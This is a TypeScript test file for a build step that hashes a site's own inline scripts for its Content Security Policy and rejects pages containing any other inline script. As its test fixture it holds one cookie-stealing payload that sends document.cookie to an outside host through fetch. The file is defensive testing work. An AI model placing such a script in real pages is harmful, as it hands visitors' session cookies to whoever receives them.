/**
 * postbuild's CSP hashes: a page's policy allows the inline scripts the build
 * wrote into it (Astro's, listed in its CSP meta element, and our layouts')
 * and no other; a page with another inline script, from an article say,
 * stops the build.
 */
import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { decodeTypeface } from "../app/typeface.ts";
import { inlineScriptHashes, scriptHashSource } from "../server/csp.ts";

const astroScript = "window.a = 1;";
const injected = 'fetch("https://example.com/?" + document.cookie)';

/** A page as Astro writes it: its policy naming its own script, ours, and what the body brings. */
const page = (body: string) =>
  `<!DOCTYPE html><html><head><meta http-equiv="content-security-policy" content="script-src 'self' ${scriptHashSource(astroScript)}"><script>${astroScript}</script></head><body><script>${decodeTypeface}</script><article>${body}</article></body></html>`;

function postbuild(buildDir: string) {
  return spawnSync(process.execPath, [path.resolve("tooling/postbuild.ts")], {
    env: { ...process.env, BUILD_DIR: buildDir },
    encoding: "utf8",
  });
}

describe("postbuild's script hashes", () => {
  let buildDir = "";
  beforeEach(async () => {
    buildDir = await mkdtemp(path.join(tmpdir(), "postbuild-"));
    await mkdir(path.join(buildDir, "client/blog"), { recursive: true });
  });
  afterEach(async () => {
    await rm(buildDir, { recursive: true, force: true });
  });

  it("allow the build's own scripts, each added by a hashed script, and leave the policy to the server", async () => {
    await writeFile(path.join(buildDir, "client/index.html"), page("<p>Text</p>"));
    const run = postbuild(buildDir);
    expect(run.stderr).toBe("");
    expect(run.status).toBe(0);
    const html = await readFile(path.join(buildDir, "client/index.html"), "utf8");
    expect(html).not.toContain("http-equiv");
    expect(html).not.toContain(`<script>${astroScript}</script>`);
    expect(html).toContain(`s.text=${JSON.stringify(astroScript)}`);
    const hashes = JSON.parse(await readFile(path.join(buildDir, "csp-hashes.json"), "utf8"));
    expect(hashes).toEqual({ "index.html": inlineScriptHashes(html) });
    expect(hashes["index.html"]).toHaveLength(2);
  });

  it("refuse a page with an inline script the build did not write, naming the page", async () => {
    await writeFile(
      path.join(buildDir, "client/blog/post.html"),
      page(`<p>Text</p><script>${injected}</script>`),
    );
    const run = postbuild(buildDir);
    expect(run.status).not.toBe(0);
    expect(run.stderr).toContain("blog/post.html has 1 inline script(s) the build did not write");
    expect(existsSync(path.join(buildDir, "csp-hashes.json"))).toBe(false);
  });
});
